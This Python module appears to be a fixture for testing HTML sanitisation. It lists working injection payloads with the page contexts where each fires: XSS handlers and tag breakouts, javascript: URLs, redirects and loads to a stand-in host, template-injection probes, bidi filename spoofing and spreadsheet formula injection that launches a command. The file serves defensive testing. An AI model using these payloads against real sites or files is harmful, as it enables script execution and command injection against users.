"""What somebody might write to have a browser do more than show it, and how one sees that it has.

Each attempt says where it would work, were it put there as it is: `{}` stands for its text. An
attempt that nowhere works would prove nothing.
"""

from dataclasses import dataclass
from pathlib import Path

ELSEWHERE = "https://evil.example"
FLAG = "top.__pwned=1"


@dataclass(frozen=True)
class Attempt:
    text: str
    works_in: str | None = "<div>{}</div>"  # None: it depends on more than a page


ATTEMPTS = (
    Attempt(f"<script>{FLAG}</script>"),
    Attempt(f"</title></textarea></script><script>{FLAG}</script>", "<title>{}</title>"),
    Attempt(f"<img src=x onerror={FLAG}>"),
    Attempt(f"<svg onload={FLAG}>"),
    Attempt(f"<svg><animate onbegin={FLAG} attributeName=x dur=1s>"),
    Attempt(f'" autofocus onfocus={FLAG} x="', '<input value="{}">'),
    Attempt(f"' autofocus onfocus={FLAG} x='", "<input value='{}'>"),
    Attempt(f"x autofocus onfocus={FLAG}", "<input value={}>"),
    Attempt(f"--><img src=x onerror={FLAG}><!--", "<!-- {} -->"),
    Attempt(f'";{FLAG};//', '<script>var text = "{}"</script>'),
    Attempt(
        rf"\u003cimg src=x onerror={FLAG}\u003e",
        '<div id="d"></div><script>d.innerHTML = "{}"</script>',
    ),
    Attempt(
        f"&lt;img src=x onerror={FLAG}&gt;",
        '<div id="d">{}</div><script>d.innerHTML = d.textContent</script>',
    ),
    Attempt(f"javascript:void({FLAG})", '<iframe src="{}"></iframe>'),
    Attempt(f"JaVa\tScRiPt:void({FLAG})", '<iframe src="{}"></iframe>'),
    Attempt(f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>"),
    Attempt(f"<base href={ELSEWHERE}/><img src=x>"),
    Attempt(f"<style>@import url({ELSEWHERE}/a.css);</style>"),
    Attempt(f'" style="background:url({ELSEWHERE}/b)', '<p class="{}">x</p>'),
    Attempt(f"<iframe src={ELSEWHERE}/></iframe><object data={ELSEWHERE}/></object>"),
    Attempt(f"<form action={ELSEWHERE}/><button id=b>x</button></form>", None),
    Attempt(f'<b hx-get="{ELSEWHERE}/" hx-trigger="load">', None),  # htmx asks its own host only
    Attempt(f'<b hx-on:click="{FLAG}">', None),
    Attempt(f"data:text/html,<script>{FLAG}</script>", None),
    Attempt("Q={{7*7}} {%if 1%}Q=4{%endif%}9 Q=${7*7} Q=<%=7*7%> Q=#{7*7}", None),
    Attempt("\u202egnp.exe\u202c \u2067lre\u2069 \u202btxt", None),
    Attempt("=cmd|' /C calc'!A0", None),
    Attempt("@SUM(1+1)*cmd|' /C calc'!A0", None),
)

BARE = f"\"'><img src=x onerror={FLAG}>"
SHORT = f"{BARE}Q={{{{7*7}}}}"
"""For what may be only so long: it leaves attributes and elements."""

EVALUATED = "Q=49"
"""What a template makes of these, and no id has by accident."""

ODDITIES = Path(__file__).with_name("oddities.js").read_text(encoding="utf-8").strip().rstrip(";")
